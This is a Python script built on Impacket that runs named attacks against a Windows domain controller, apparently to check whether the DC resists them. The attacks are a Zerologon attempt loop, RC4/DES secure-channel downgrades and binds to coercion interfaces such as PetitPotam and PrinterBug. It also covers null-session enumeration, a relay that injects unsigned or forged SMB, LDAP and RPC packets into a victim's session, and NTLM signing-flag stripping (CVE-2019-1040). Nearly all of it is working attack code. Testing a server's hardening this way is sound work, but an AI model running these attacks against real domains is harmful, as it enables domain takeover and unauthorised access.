"""Attacks on a DC's SMB and RPC with Impacket, as a program: one attack by word, its outcome on stdout.

Run on a client's machine: `python smb_rpc_attacks.py ATTACK DC-ADDRESS DOMAIN USER PASSWORD LISTEN-PORT`.
"""

import contextlib
import os
import select
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

from impacket import ntlm
from impacket.dcerpc.v5 import epm, lsad, lsat, nrpc, samr, transport
from impacket.dcerpc.v5.dtypes import MAXIMUM_ALLOWED, NULL
from impacket.dcerpc.v5.rpcrt import (
    RPC_C_AUTHN_LEVEL_CONNECT,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)
from impacket.ldap import ldap as impacket_ldap
from impacket.smbconnection import SMBConnection
from impacket.uuid import uuidtup_to_bin

ABSENT = {
    "efsrpc": ("lsarpc", ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")),
    "efsrpc by its own pipe": ("efsrpc", ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")),
    "spoolss": ("spoolss", ("12345678-1234-abcd-ef00-0123456789ab", "1.0")),
    "netdfs": ("netdfs", ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")),
    "file replica VSS agent": ("FssagentRpc", ("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")),
    "par": ("spoolss", ("76f03f96-cdfd-44fc-a22c-64950a001209", "1.0")),
    "dhcp": ("dhcpserver", ("6bffd098-a112-3610-9833-46c3f874532d", "1.0")),
    "scheduler": ("atsvc", ("1ff70682-0a51-30e8-076d-740be8cee98b", "1.0")),
    "icpr": ("cert", ("91ae6020-9e3c-11cf-8d7c-00aa00c091be", "0.0")),
}
TRIES = 300
"""Each would be good with a chance of one in 256, were zeros a challenge."""


@dataclass(frozen=True, slots=True)
class Target:
    address: str
    domain: str
    user: str
    password: str
    port: int

    def pipe(self, name: str) -> Any:
        """A connected, unbound pipe, as the user."""
        found = transport.DCERPCTransportFactory(f"ncacn_np:{self.address}[\\pipe\\{name}]")
        found.set_credentials(self.user, self.password, self.domain)
        dce = found.get_dce_rpc()
        dce.connect()
        return dce

    def null_session(self) -> Any:
        """A session of nobody; Impacket would sign its requests without a key."""
        found = SMBConnection(self.address, self.address)
        found.login("", "")
        found.getSMBServer()._Session.update(SigningActivated=False, SigningRequired=False)
        return found

    def null_pipe(self, name: str) -> Any:
        """A connected, unbound pipe of nobody."""
        session = self.null_session()
        dce = transport.SMBTransport(self.address, filename=f"\\{name}", smb_connection=session).get_dce_rpc()
        dce.connect()
        return dce

    def tcp(self, interface: Any) -> Any:
        binding = epm.hept_map(self.address, interface, protocol="ncacn_ip_tcp")
        return transport.DCERPCTransportFactory(binding).get_dce_rpc()


def outcome(work: Callable[[], Any]) -> str:
    """What came of it, in a word."""
    try:
        work()
    except Exception as error:
        return f"refused: {type(error).__name__} {str(error)[:120]}".replace("\n", " ")
    return "WORKED"


# --- the secure channel ------------------------------------------------------------------------------------


def zerologon(at: Target) -> None:
    """CVE-2020-1472: zeros as challenge and proof, for the DC's own account and for others."""
    dce = at.tcp(nrpc.MSRPC_UUID_NRPC)
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    zeros = bytes(8)
    granted = 0
    for number in range(TRIES):
        flags = (0x212F_FFFF, 0x612F_FFFF, 0x412F_FFFF)[number % 3]
        try:
            nrpc.hNetrServerReqChallenge(dce, NULL, "DC1\0", zeros)
            nrpc.hNetrServerAuthenticate3(
                dce,
                NULL,
                "DC1$\0",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                "DC1\0",
                zeros,
                flags,
            )
            granted += 1
        except nrpc.DCERPCSessionError:
            continue
    print(f"granted {granted} of {TRIES}")


def old_ciphers(at: Target) -> None:
    """Proofs by RC4 and DES: downgrades, whatever they prove."""
    dce = at.tcp(nrpc.MSRPC_UUID_NRPC)
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    kind = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel
    for flags in (0, 0x4000, 0x600F_FFFF, 0x2004_01FF):
        challenge = nrpc.hNetrServerReqChallenge(dce, NULL, "PC\0", b"12345678")["ServerChallenge"]
        key = nrpc.ComputeSessionKeyStrongKey("", b"12345678", challenge, ntlm.NTOWFv1(at.password))
        proof = nrpc.ComputeNetlogonCredential(b"12345678", key)
        print(
            hex(flags),
            outcome(partial(nrpc.hNetrServerAuthenticate3, dce, NULL, "PC$\0", kind, "PC\0", proof, flags)),
        )


# --- interfaces that other servers were attacked by --------------------------------------------------------


def absent(at: Target) -> None:
    """PetitPotam, PrinterBug, DFSCoerce, ShadowCoerce and others: nothing that coerces is here."""
    for name, (pipe, interface) in ABSENT.items():

        def bind(pipe: str = pipe, interface: tuple[str, str] = interface) -> None:
            at.pipe(pipe).bind(uuidtup_to_bin(interface))

        print(f"{name}: {outcome(bind)}")


# --- nobody ------------------------------------------------------------------------------------------------


def nobody(at: Target) -> None:
    """What null sessions and strangers over TCP are told of accounts."""

    def sam() -> None:
        dce = at.null_pipe("samr")
        dce.bind(samr.MSRPC_UUID_SAMR)
        samr.hSamrConnect(dce)

    def cycle(over: str) -> None:
        if over == "pipe":
            dce = at.null_pipe("lsarpc")
        else:
            dce = at.tcp(lsat.MSRPC_UUID_LSAT)
            dce.connect()
        dce.bind(lsat.MSRPC_UUID_LSAT)
        policy = lsad.hLsarOpenPolicy2(dce, MAXIMUM_ALLOWED | lsat.POLICY_LOOKUP_NAMES)["PolicyHandle"]
        lsat.hLsarLookupSids(dce, policy, [f"S-1-5-21-1-2-3-{rid}" for rid in range(500, 520)])

    print("samr", outcome(sam))
    print("lookupsids by pipe", outcome(lambda: cycle("pipe")))
    print("lookupsids by tcp", outcome(lambda: cycle("tcp")))
    for pipe in ("srvsvc", "wkssvc", "winreg", "svcctl", "eventlog", "lsass"):
        print(pipe, outcome(partial(at.null_pipe, pipe)))
    null = at.null_session()
    print("its own pipes", "WORKED" == outcome(partial(at.null_pipe, "netlogon")))
    for share in ("SYSVOL", "NETLOGON", "C$", "ADMIN$"):
        print(share, outcome(partial(null.connectTree, share)))


# --- relays ------------------------------------------------------------------------------------------------


class Relay:
    """Passes on what a client and the DC say to each other, perhaps changed; then keeps the DC's side."""

    def __init__(self, at: Target, port: int, change: Callable[[bytes], bytes] | None = None) -> None:
        self._listener = socket.create_server(("127.0.0.1", at.port))
        self._to = (at.address, port)
        self._change = change or bytes
        self.server: socket.socket | None = None
        self.quiet = threading.Event()
        self._threads = [threading.Thread(target=self._serve, daemon=True)]
        self._threads[0].start()

    def _serve(self) -> None:
        client, _ = self._listener.accept()
        self.server = socket.create_connection(self._to)
        back = threading.Thread(target=self._pass, args=(self.server, client, bytes), daemon=True)
        self._threads.append(back)
        back.start()
        self._pass(client, self.server, self._change)

    def _pass(self, one: socket.socket, other: socket.socket, change: Callable[[bytes], bytes]) -> None:
        with contextlib.suppress(OSError):
            while not self.quiet.is_set():
                if not select.select([one], [], [], 0.05)[0]:
                    continue
                data = one.recv(65_536)
                if not data:
                    return
                other.sendall(change(data))

    def inject(self, data: bytes) -> bytes:
        """Octets to the DC where the client was let in; its answer, empty for an end."""
        assert self.server is not None
        self.quiet.set()
        for thread in self._threads:
            thread.join()
        self.server.settimeout(5)
        self.server.sendall(data)
        try:
            return self.server.recv(65_536)
        except OSError:
            return b""


def relay_smb(at: Target) -> None:
    """A session that a user began through us: our own requests in it lack his key."""
    relay = Relay(at, 445)
    victim = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=at.port)
    victim.login(at.user, at.password, at.domain)
    session_id = victim.getSMBServer()._Session["SessionID"]
    path = f"\\\\{at.address}\\SYSVOL".encode("utf-16-le")
    for signature in (b"", os.urandom(16)):
        flags = 8 if signature else 0
        header = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 1, 0, 3, 8, flags, 0, 20, 0xFEFF, 0, session_id)
        message = header + signature.ljust(16, b"\0") + struct.pack("<HHHH", 9, 0, 72, len(path)) + path
        answer = relay.inject(len(message).to_bytes(4, "big") + message)
        status = int.from_bytes(answer[12:16], "little") if answer else 0
        print("signed wrongly" if signature else "unsigned", hex(status) if answer else "closed")


def relay_ldap(at: Target) -> None:
    """The same over LDAP, after a bind that agreed to sign and seal."""
    relay = Relay(at, 389)
    victim = impacket_ldap.LDAPConnection("ldap://127.0.0.1", "DC=x")
    victim.login(at.user, at.password, at.domain)
    asks = "0400 0a0100 0a0100 020100 020100 010100 870b6f626a656374436c617373 3000"
    search = bytes.fromhex("3025 020109 6320" + asks)
    answer = relay.inject(search)
    print("in clear", "answered" if b"objectClass" in answer else "closed")
    answer = relay.inject(struct.pack(">I", 40) + os.urandom(40))
    print("sealed by nobody", "answered" if answer else "closed")


def relay_rpc(at: Target) -> None:
    """A proof at CONNECT, which protects nothing, is taken nowhere that matters; PRIVACY needs its key."""

    def at_connect() -> None:
        dce = at.tcp(samr.MSRPC_UUID_SAMR)
        dce.set_credentials(at.user, at.password, at.domain)
        dce.set_auth_level(RPC_C_AUTHN_LEVEL_CONNECT)
        dce.connect()
        dce.bind(samr.MSRPC_UUID_SAMR)
        samr.hSamrConnect(dce)

    print("connect level", outcome(at_connect))
    binding = epm.hept_map(at.address, samr.MSRPC_UUID_SAMR, protocol="ncacn_ip_tcp")
    port = int(binding.partition("[")[2][:-1])
    relay = Relay(at, port)
    dce = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:127.0.0.1[{at.port}]").get_dce_rpc()
    dce.set_credentials(at.user, at.password, at.domain)
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(samr.MSRPC_UUID_SAMR)
    stub = struct.pack("<III", 0, 0x0200_0000, 0)
    call = struct.pack("<BBBBIHHIIHH", 5, 0, 0, 3, 0x10, 24 + len(stub), 0, 99, len(stub), 0, 0) + stub
    answer = relay.inject(call)
    # A call without a trailer is nobody's, whatever the connection has proven besides.
    denied = answer[2:3] == b"\x03" or answer.endswith((0xC000_0022).to_bytes(4, "little"))
    print("unprotected", "refused" if denied else answer.hex() or "closed")


def _strip(data: bytes) -> bytes:
    """Take signing and sealing out of a client's first NTLM message."""
    at = data.find(b"NTLMSSP\0\1\0\0\0")
    if at < 0:
        return data
    flags = int.from_bytes(data[at + 12 : at + 16], "little") & ~0x8030 & ~0x4000_0000
    return data[: at + 12] + flags.to_bytes(4, "little") + data[at + 16 :]


def stripped(at: Target) -> None:
    """CVE-2019-1040 and its kin: a client that protects its messages notices, or the DC does."""
    Relay(at, 445, _strip)
    who = f"{at.domain}\\{at.user}%{at.password}"
    done = subprocess.run(
        ["smbclient", "//127.0.0.1/SYSVOL", "-p", str(at.port), "-U", who, "-c", "ls", "--use-kerberos=off"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    print("stripped", done.returncode, (done.stdout + done.stderr).strip().splitlines()[-1:])


ATTACKS: dict[str, Callable[[Target], None]] = {
    one.__name__: one
    for one in (zerologon, old_ciphers, absent, nobody, relay_smb, relay_ldap, relay_rpc, stripped)
}

if __name__ == "__main__":
    attack, address, domain, user, password = sys.argv[1:6]
    ATTACKS[attack](Target(address, domain, user, password, int(sys.argv[6])))
